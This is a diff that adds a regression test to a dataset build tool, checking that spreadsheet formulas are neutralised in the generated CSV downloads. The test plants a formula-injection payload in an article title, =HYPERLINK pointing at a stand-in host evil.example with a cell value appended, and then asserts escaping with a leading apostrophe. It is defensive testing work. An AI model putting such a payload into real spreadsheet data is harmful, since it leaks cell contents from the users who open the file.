@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import math
 import os
+import re
 import shutil
 import stat
 import subprocess
@@ -315,3 +316,30 @@ def test_a_4_mib_article_validates_and_builds_in_seconds(tmp_path):
     inputs = long_article(tmp_path / "in", 4 * 1024 * 1024 - 4096)
     assert timed(validate, inputs) < 60
     assert timed(build, inputs, tmp_path / "out") < 90
+
+
+# ---------------------------------------------------------------------------
+# Probe 12: spreadsheet formulas in the downloaded CSV files
+
+
+def test_formulas_are_neutralised_in_the_csv_downloads(corpus, tmp_path):
+    """A title `=HYPERLINK(…)` landed verbatim in articles.csv, which Excel users are told to open."""
+    import csv
+
+    mapping = corpus.mappings_dir / "000_6dfca6dcd6d852bb.yaml"
+    text = mapping.read_text(encoding="utf-8")
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    text = text.replace('    title: "请人民检阅丨通辽检察:“三个提升年”书写司法为民新篇章"\n', f"    title: '{title}'\n    publisher: '+通辽市检察院'\n", 1)
+    text = text.replace("    publisher: 通辽市检察院\n", "", 1)
+    mapping.write_text(text, encoding="utf-8")
+    out = tmp_path / "out"
+    build(corpus, out, workers=1)
+    with open(out / "articles.csv", encoding="utf-8-sig", newline="") as f:
+        row = next(r for r in csv.DictReader(f) if r["id"] == "tongliao-sange-tisheng-nian")
+    assert row["title"] == "'" + title and row["publisher"] == "'+通辽市检察院"
+    record = next(a for a in json.loads((out / "dataset.json").read_text(encoding="utf-8"))["articles"] if a["id"] == "tongliao-sange-tisheng-nian")
+    assert record["title"] == title  # the data itself keeps the value
+    cells = [cell for path in out.glob("*.csv") for r in csv.reader(open(path, encoding="utf-8-sig", newline="")) for cell in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c[:1] == "-" and not re.fullmatch(r"-[0-9.e+-]+", c)]
+    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
+    assert all("apostrophe" in r["description"] for r in package["resources"] if r["format"] == "csv")
